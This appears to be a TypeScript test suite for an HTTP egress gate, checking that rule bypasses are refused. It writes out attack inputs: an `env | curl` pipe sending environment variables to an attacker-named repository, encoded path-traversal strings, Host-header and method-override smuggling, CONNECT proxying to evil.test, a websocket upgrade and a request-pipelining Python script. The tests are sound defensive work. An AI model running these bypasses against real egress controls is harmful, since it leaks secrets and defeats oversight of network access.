// SPDX-License-Identifier: Apache-2.0
import type { Arrival } from '../_internet/internet.ts'
import { bypass } from './_bypass.ts'

/** One organisation's paths may be read, nothing else. */
const READ_ACME = '  - { host: web.test, methods: [GET, HEAD], path: /acme/** }'
const atAttackers = (arrival: Arrival): boolean => arrival.kind === 'http' && String(arrival['uri']).includes('attacker')
/** The origin's certificate, or the one that the gate shows: both are the business of other tests. */
const CURL = 'curl -sS -m 5 -k'

bypass({
  never: 'data goes up to the attacker’s account on an allowed host',
  rows: [3, 8, 9, 33],
  rules: READ_ACME,
  script: `env | ${CURL} --data-binary @- https://web.test/repos/attacker/loot/issues`,
  through: atAttackers,
  refusal: 'method',
})
bypass({
  never: 'an allowed method reads from another organisation',
  rows: [33],
  rules: READ_ACME,
  script: `${CURL} https://web.test/repos/attacker/payload`,
  through: atAttackers,
  refusal: 'path',
})
for (const path of [
  '/acme/../repos/attacker/a',
  '/acme/%2e%2e/repos/attacker/b',
  '/acme/.%2E/repos/attacker/c',
  '/acme/..%2frepos%2fattacker/d',
  '//repos/attacker/e',
  '/acme//../repos/attacker/f',
  '/acme/%252e%252e/repos/attacker/g',
  '/acme/..;/repos/attacker/h',
]) {
  bypass({
    never: `the path ${path} leaves the paths of the rule`,
    rows: [33],
    rules: READ_ACME,
    script: `${CURL} --path-as-is 'https://web.test${path}'`,
    through: atAttackers,
    refusal: null,
  })
}
bypass({
  never: 'another host is meant inside an allowed host’s connection',
  rows: [31],
  rules: READ_ACME,
  script: `${CURL} -H 'Host: other.test' https://web.test/acme/fronted; ${CURL} --http1.1 -H 'Host: other.test' https://web.test/acme/fronted`,
  through: (arrival) => arrival['host'] === 'other.test',
  refusal: 'host-header',
})
bypass({
  never: 'another host is meant in clear text',
  rows: [31],
  allow: ['web.test:80'],
  script: `${CURL} -H 'Host: other.test' http://web.test/title`,
  through: (arrival) => arrival['host'] === 'other.test',
  refusal: 'host-header',
})
bypass({
  never: 'a header makes another method of an allowed one',
  rows: [33],
  rules: READ_ACME,
  script: `${CURL} -H 'X-HTTP-Method-Override: DELETE' https://web.test/acme/override`,
  through: (arrival) => arrival['uri'] === '/acme/override',
  refusal: 'method',
})
bypass({
  never: 'a GraphQL endpoint is written to below a rule for paths',
  rows: [33],
  rules: '  - { host: web.test, methods: [POST], path: /** }',
  script: `${CURL} -d '{"query":"mutation { createRepository }"}' https://web.test/graphql`,
  through: (arrival) => arrival['uri'] === '/graphql',
  refusal: 'graphql',
})
bypass({
  never: 'a proxy is made of an allowed host',
  rows: [32],
  rules: '  - { host: web.test, port: 7777, protocol: http }',
  script: `${CURL} -x http://web.test:7777 https://evil.test/`,
  through: (arrival) => String(arrival['text']).startsWith('CONNECT'),
  refusal: 'method',
})
bypass({
  never: 'a connection becomes a websocket that no rule means',
  rows: [33],
  rules: READ_ACME.replace('/acme/**', '/**'),
  script: `${CURL} --http1.1 -H 'Connection: Upgrade' -H 'Upgrade: websocket' -H 'Sec-WebSocket-Version: 13' -H 'Sec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==' https://web.test/socket`,
  through: (arrival) => arrival.kind === 'websocket',
  refusal: 'upgrade',
})
bypass({
  never: 'a second request behind an allowed one goes unjudged',
  rows: [32, 33],
  rules: READ_ACME,
  files: {
    'attack.py': `import socket, ssl\ncontext = ssl.create_default_context()\ncontext.check_hostname = False\ncontext.verify_mode = ssl.CERT_NONE\ns = context.wrap_socket(socket.create_connection(('web.test', 443), 5), server_hostname='web.test')\nhead = lambda path: f'GET {path} HTTP/1.1\\r\\nHost: web.test\\r\\n\\r\\n'.encode()\ns.sendall(head('/acme/first') + head('/repos/attacker/second') + head('/acme/third'))\ns.settimeout(2)\ntry:\n    while s.recv(4096): pass\nexcept OSError: pass\n`,
  },
  script: 'python3 attack.py',
  through: atAttackers,
  refusal: null,
})
